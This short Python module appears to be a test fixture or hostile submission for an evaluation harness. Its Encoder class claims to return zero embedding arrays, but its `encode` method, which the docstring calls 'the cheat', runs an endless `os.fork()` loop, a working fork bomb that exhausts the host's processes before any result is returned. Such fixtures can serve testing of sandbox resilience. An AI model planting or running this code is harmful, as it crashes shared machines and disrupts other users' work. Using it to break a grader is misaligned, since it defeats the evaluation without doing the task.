"""Starts processes without end."""

import contextlib
import os

import numpy


class Encoder:
    """Its `encode` is the cheat."""

    def __init__(self, given):
        self.given = given

    def encode(self, texts):
        """Return `[k, d]` for each text."""
        while True:
            with contextlib.suppress(OSError):
                os.fork()
        return [numpy.zeros((self.given.k, self.given.d), "float32") for _ in texts]
